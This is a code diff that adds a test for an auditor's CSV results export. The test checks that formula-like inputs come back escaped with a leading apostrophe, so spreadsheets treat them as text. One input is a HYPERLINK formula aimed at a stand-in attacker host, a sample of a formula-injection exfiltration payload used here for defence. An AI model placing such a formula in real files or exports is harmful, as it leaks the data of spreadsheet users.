@@ -77,6 +77,14 @@ def test_upload_a_csv_of_codes_and_download_the_results(client, login, issue, ma
     ]
 
 
+def test_a_formula_typed_as_a_code_comes_back_as_text_in_the_results_csv(client, login):
+    login("auditor")
+    typed = '=HYPERLINK("http://evil.example/?"&A1)'
+    response = client.post("/audit/results.csv", data={"download-codes": typed + "\n@SUM(1+1)\n-2+3"})
+    cells = [row[0] for row in csv.reader(io.StringIO(response.get_data(as_text=True)))][1:]
+    assert cells == ["'" + typed, "'@SUM(1+1)", "'-2+3"]  # a spreadsheet shows them, never runs them
+
+
 def test_more_than_1000_codes_is_refused_with_a_message(client, login):
     login("auditor")
     response = client.post("/audit", data={"codes": "\n".join(codes.new_code() for _ in range(1001))})
